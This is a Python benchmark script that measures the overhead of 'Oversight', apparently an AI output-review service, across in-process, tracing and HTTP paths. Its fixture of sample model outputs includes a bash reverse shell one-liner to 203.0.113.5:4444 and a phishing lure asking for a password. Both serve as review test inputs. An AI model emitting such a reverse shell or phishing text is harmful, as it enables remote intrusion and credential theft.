"""What Oversight's own machinery costs per review, against floors measured in the same run.

1. in-process: the same five steps (triage, policy check, local reviewer, decide, record with SQLite
   persistence) called as a plain async chain (the floor) vs ``Runtime.review`` as the service runs it
   (default executor ``direct``: the graph's node functions straight through) and with
   ``OVERSIGHT_REVIEW_EXECUTOR=langgraph`` (the compiled LangGraph graph);
2. tracing: the default review with spans recorded (Oversight's tracer provider with a batch processor and a
   no-op exporter attached) vs nothing attached, alternating request by request in the same run;
3. HTTP: POST /v1/reviews on `oversight serve`'s app vs a trivial FastAPI endpoint, both under uvicorn with
   one worker, the same client and concurrency, in alternating rounds (both servers up; the ratio is the median of
   the per-round ratios, so background load on a shared machine hits both sides alike).

Prints medians, p99 and ratios. Usage: python bench/overhead.py [--quick] [--skip-http]
"""

from __future__ import annotations

import argparse
import asyncio
import gc
import json
import os
import statistics
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
os.environ.setdefault("LANGSMITH_TRACING", "false")

from bench._http import free_port, load, start_server, stop_server

REQUESTS: list[dict[str, Any]] = [
    # a rewrite: the local reviewer drops the sentence with the lure and releases the rest. (Until 2026-12-04 this was
    # "You can stop taking your medication if you feel fine. …", which now escalates: health.stop_medication is
    # fixed_by_removal: false, and an escalation costs a LangGraph checkpoint, not the rewrite this kind measures.)
    {"messages": [{"role": "user", "content": "Help me write a newsletter intro"}],
     "output": "Welcome to the March newsletter! Verify your account now by entering your password at the link below "
               "or it will be suspended. This month we cover spring cleaning tips and our new blog.",
     "model": {"name": "fast", "version": "1"}},
    {"messages": [{"role": "user", "content": "What is a normal dose of ibuprofen for a headache?"}],
     "output": "I'm sorry, but I can't help with that request.", "model": {"name": "fast", "version": "1"}},
    {"messages": [{"role": "user", "content": "Give me a reverse shell one-liner"}],
     "output": "Sure: bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "model": {"name": "fast", "version": "1"}},
    {"messages": [{"role": "user", "content": "Should I put my savings in an index fund or bonds?"}],
     "output": "It depends on your horizon. Index funds carry more risk and more expected return; bonds are "
               "steadier. Diversify, keep an emergency fund, and consider a fee-only financial adviser.",
     "model": {"name": "fast", "version": "1"}},
]


def _db_size(folder: Path) -> int:
    return sum(p.stat().st_size for p in folder.glob("oversight.sqlite*"))


def stats(xs: list[float]) -> tuple[float, float]:
    s = sorted(xs)
    return statistics.median(s), s[min(len(s) - 1, int(0.99 * len(s)))]


class _ExporterToggle:
    """Attach or detach one span processor at the flip of a flag, so spans on and off alternate within one run."""

    def __init__(self, processor: Any) -> None:
        self.processor = processor
        self._on = False

    @property
    def on(self) -> bool:
        return self._on

    @on.setter
    def on(self, value: bool) -> None:
        from service import telemetry

        if value and not self._on:
            telemetry.attach_span_processor(self.processor)
        elif self._on and not value:
            telemetry.detach_span_processor(self.processor)
        self._on = value


async def in_process(n: int, executor: str = "direct", toggle: _ExporterToggle | None = None) -> dict[str, Any]:
    from graphs.nodes import ReviewNodes
    from service.runtime import Runtime, new_review_id
    from service.schemas import ReviewRequest
    from service.settings import Settings

    reqs = [ReviewRequest.model_validate(r) for r in REQUESTS]
    with tempfile.TemporaryDirectory() as tmp:
        async with Runtime.open(Settings(data_dir=Path(tmp), audit_seed=0, review_executor=executor)) as rt:
            nodes = ReviewNodes(rt.ports)

            async def plain(req: ReviewRequest) -> None:
                # The floor: the same node functions, no graph, no checkpoint, no root span.
                state: dict[str, Any] = {
                    "review_id": new_review_id(), "kind": "answer", "tenant": "bench", "trace_id": "0" * 32,
                    "request": req.model_dump(mode="json", exclude_none=True), "deadline_at": time.time() + 10,
                    "mode": "enforce",
                }
                for step in (nodes.triage, nodes.policy_check, nodes.review, nodes.decide):
                    state.update(await step(state))  # type: ignore[arg-type]
                if state["ruling"]["verdict"] == "rewrite":
                    state.update(await nodes.revise(state))  # type: ignore[arg-type]
                state.update(await nodes.record(state))  # type: ignore[arg-type]

            for i in range(200):  # warm-up
                await rt.review(reqs[i % len(reqs)], "bench")
                await plain(reqs[i % len(reqs)])
            gc.collect()
            graph_ms: list[float] = []
            plain_ms: list[float] = []
            traced_ms: list[float] = []
            for i in range(n):  # alternate so drift on a noisy machine hits every variant equally
                req = reqs[i % len(reqs)]
                if toggle is not None:
                    toggle.on = False
                t0 = time.perf_counter()
                await rt.review(req, "bench")
                graph_ms.append((time.perf_counter() - t0) * 1000)
                t0 = time.perf_counter()
                await plain(req)
                plain_ms.append((time.perf_counter() - t0) * 1000)
                if toggle is not None:
                    toggle.on = True
                    t0 = time.perf_counter()
                    await rt.review(req, "bench")
                    traced_ms.append((time.perf_counter() - t0) * 1000)
            size = _db_size(Path(tmp))
    return {
        "graph": stats(graph_ms),
        "plain": stats(plain_ms),
        "traced": stats(traced_ms) if traced_ms else None,
        "db_kb_per_review": size / 1024 / ((3 if toggle else 2) * n + 400),
    }


def http(seconds: float, concurrency: int, rounds: int) -> dict[str, Any]:
    """Both servers up at once; ``rounds`` alternating windows of ``seconds / rounds`` each.

    Alternating short windows (trivial, review, trivial, review, ...) puts both under the same background
    load on a shared machine; the ratio is taken per round and the median reported.
    """
    bodies = [json.dumps(r).encode() for r in REQUESTS]
    window = seconds / rounds
    with tempfile.TemporaryDirectory() as tmp:
        servers = {name: (free_port(), app, path) for name, app, path in (
            ("trivial", "bench._trivial_app:app", "/trivial"), ("review", "service.asgi:app", "/v1/reviews"))}
        procs = {name: start_server(app, port, {"OVERSIGHT_DATA_DIR": tmp, "LANGSMITH_TRACING": "false"})
                 for name, (port, app, _) in servers.items()}
        try:
            for port, _, path in servers.values():  # warm-up
                asyncio.run(load(port, path, bodies, concurrency=concurrency, seconds=2))
            time.sleep(1)
            runs: dict[str, list[Any]] = {name: [] for name in servers}
            for i in range(rounds):
                order = list(servers) if i % 2 == 0 else list(reversed(servers))
                for name in order:
                    port, _, path = servers[name]
                    cpu0 = _cpu_seconds(procs[name].pid)
                    res = asyncio.run(load(port, path, bodies, concurrency=concurrency, seconds=window))
                    res.cpu_s = _cpu_seconds(procs[name].pid) - cpu0
                    runs[name].append(res)
        finally:
            for proc in procs.values():
                stop_server(proc)
    return runs


def _cpu_seconds(pid: int) -> float:
    """User + system CPU of a process (all its threads) from /proc: what a request costs the server."""
    fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def merged(results: list[Any]) -> Any:
    from bench._http import LoadResult

    out = LoadResult(0, 0, 0.0, [])
    out.cpu_s = sum(r.cpu_s for r in results)
    out.completed = sum(r.completed for r in results)
    for r in results:
        out.requests += r.requests
        out.errors += r.errors
        out.seconds += r.seconds
        out.latencies_ms.extend(r.latencies_ms)
    return out


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--quick", action="store_true", help="smaller runs (a smoke check, noisier figures)")
    ap.add_argument("--skip-http", action="store_true")
    ap.add_argument("--http-only", action="store_true")
    ap.add_argument("-n", type=int, default=0)
    args = ap.parse_args()
    n = args.n or (300 if args.quick else 2000)
    if args.http_only:
        report_http(args.quick)
        return

    from opentelemetry.sdk.trace.export import BatchSpanProcessor, SpanExporter, SpanExportResult

    from service import telemetry

    class Noop(SpanExporter):
        count = 0

        def export(self, spans: Any) -> SpanExportResult:
            Noop.count += len(spans)
            return SpanExportResult.SUCCESS

    # Spans on vs off alternate request by request: Oversight's provider (as the service runs it) with a batch
    # processor and a no-op exporter attached (spans recorded) or detached (nothing recorded, ids still real).
    telemetry.setup_tracing()
    toggle = _ExporterToggle(BatchSpanProcessor(Noop()))
    lg = asyncio.run(in_process(n, executor="langgraph"))
    off = asyncio.run(in_process(n, toggle=toggle))
    on = {"graph": off["traced"]}
    g50, g99 = off["graph"]
    p50, p99 = off["plain"]
    l50, l99 = lg["graph"]
    t50, t99 = on["graph"]
    print(f"in-process review, local reviewer, SQLite persistence ({n} reviews, 4 request kinds)")
    print(f"  floor: same five steps as plain async functions   median {p50:6.3f} ms   p99 {p99:6.3f} ms")
    print(f"  Runtime.review, executor direct (default)         median {g50:6.3f} ms   p99 {g99:6.3f} ms"
          f"   ratio {g50 / p50:4.2f}x floor   target median <= 3 ms: {'PASS' if g50 <= 3 else 'FAIL'}")
    print(f"  Runtime.review, executor langgraph                median {l50:6.3f} ms   p99 {l99:6.3f} ms"
          f"   ratio {l50 / p50:4.2f}x floor")
    print(f"  same, spans on (batch processor, no-op exporter)  median {t50:6.3f} ms   p99 {t99:6.3f} ms"
          f"   tracing overhead {1000 * (t50 - g50):+5.0f} us = {100 * (t50 - g50) / g50:+5.1f}% (target <= 10%)")
    toggle.processor.force_flush()
    print(f"  spans exported: {Noop.count} ({Noop.count / n:.1f} per traced review; none while detached)")
    print(f"  storage: {off['db_kb_per_review']:.1f} KB per review (decisions only; escalations add a checkpoint)")
    if not args.skip_http:
        report_http(args.quick)


def report_http(quick: bool) -> None:
    secs = 8.0 if quick else 24.0
    rounds = 8 if quick else 16
    runs = http(secs, concurrency=32, rounds=rounds)
    triv, rev = merged(runs["trivial"]), merged(runs["review"])
    ratios = sorted(r.rps / t.rps for r, t in zip(runs["review"], runs["trivial"], strict=True))
    ratio = statistics.median(ratios)
    print(f"HTTP, uvicorn 1 worker each, keep-alive, concurrency 32, {rounds} alternating rounds of "
          f"{secs / rounds:g} s per server")
    print(f"  floor: trivial FastAPI endpoint  {triv.rps:8.0f} req/s  p50 {triv.p50:6.2f} ms  p99 {triv.pct(0.99):6.2f} ms"
          f"  errors {triv.errors}")
    print(f"  POST /v1/reviews (local)        {rev.rps:8.0f} req/s  p50 {rev.p50:6.2f} ms  p99 {rev.pct(0.99):6.2f} ms"
          f"  errors {rev.errors}")
    print(f"  per-round ratios: {', '.join(f'{100 * x:.1f}%' for x in ratios)}")
    cpu_t, cpu_r = 1000 * triv.cpu_s / triv.completed, 1000 * rev.cpu_s / rev.completed
    print(f"  server CPU per request (user+sys, all threads): trivial {cpu_t:.3f} ms, review {cpu_r:.3f} ms, "
          f"ratio {100 * cpu_t / cpu_r:.1f}% (what the throughput ratio tends to on a quiet machine)")
    print(f"  throughput ratio, median of rounds {100 * ratio:5.1f}% of trivial (target >= 15%): "
          f"{'PASS' if ratio >= 0.15 else 'FAIL'}")


if __name__ == "__main__":
    main()
